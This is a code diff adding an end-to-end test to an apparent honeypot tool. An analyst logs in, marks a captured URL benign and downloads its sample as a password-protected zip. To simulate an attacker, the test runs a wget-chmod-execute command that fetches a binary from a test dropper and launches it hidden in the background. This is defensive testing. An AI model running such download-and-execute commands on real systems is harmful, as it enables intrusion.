@@ -1,11 +1,15 @@
 from __future__ import annotations
 
 import hashlib
+import io
 import re
 import subprocess
+import sys
 from pathlib import Path
 
+import httpx2
 import pytest
+import pyzipper
 from tests.support.running import SECRETS, Dropper, RunningTrap, eventually
 
 pytestmark = pytest.mark.e2e
@@ -181,3 +185,46 @@ def test_the_synthetic_attacker_comes_through_and_is_in_no_list(trap: RunningTra
     assert state["visit"]["problem"] == "" and state["visit"]["well_at"]
     assert not any(row["id"].startswith("CANARY") for row in trap.json("sessions"))
     assert '"canary_stored_age_seconds"' in trap.get("/healthz")
+
+
+def test_an_analyst_logs_in_decides_about_a_url_and_takes_its_payload_home(
+    trap: RunningTrap, dropper: Dropper
+) -> None:
+    """The last one: from its user on, everybody has to log in."""
+    url = f"{dropper.base}/bins/decided"
+    trap.ssh(f"cd /tmp; wget -q {url} -O .z && chmod +x .z && (./.z >/dev/null 2>&1 &)")
+    eventually(lambda: url in trap.get("/feed.txt").splitlines(), "the URL is in feed.txt")
+    password = "correct horse battery staple"
+    subprocess.run(
+        [sys.executable, "-m", "urltrap.ops", "user", "add", "ada", "--role", "admin"],
+        env=trap.env, input=password.encode() + b"\n", check=True, timeout=60,
+    )  # fmt: skip
+    trap.cli("user", "allow", "ada", "payloads")
+
+    def row() -> dict[str, str]:
+        return next(row for row in trap.json("urls") if row["url"] == url)
+
+    with httpx2.Client(base_url=trap.site, timeout=30) as browser:
+        assert browser.get("/feed.txt").status_code == 401
+
+        def send(page: str, path: str, **fields: str) -> httpx2.Response:
+            token = re.search(r'name="token" value="([0-9a-f]+)"', browser.get(page).text)
+            assert token is not None
+            return browser.post(path, data={"token": token[1], **fields})
+
+        assert send("/login", "/login", name="ada", password=password).status_code == 303
+        story = f"/urls/{row()['id']}"
+        assert send(story, f"{story}/decision", decision="benign", note="our own").status_code == 303
+        eventually(lambda: row()["verdict"] == "benign-context", "the decision counts")
+        eventually(lambda: url not in browser.get("/feed.txt").text, "it goes out of the feed")
+        assert "our own" in browser.get(story).text
+        sha256 = hashlib.sha256(dropper.payload).hexdigest()
+        parcel = send(f"/artifacts/{sha256}", f"/artifacts/{sha256}/payload")
+        assert parcel.status_code == 200 and dropper.payload not in parcel.content
+        with pyzipper.AESZipFile(io.BytesIO(parcel.content)) as archive:
+            archive.setpassword(b"infected")
+            assert archive.read(sha256) == dropper.payload
+        log = browser.get("/audit").text
+        assert all(action in log for action in ("decision.benign", "payload.downloaded", "right.given"))
+    moved = {(change["before"], change["now"]) for change in trap.json("judge", "--replay")}
+    assert all(before == now for before, now in moved) and row()["verdict"] == "benign-context"
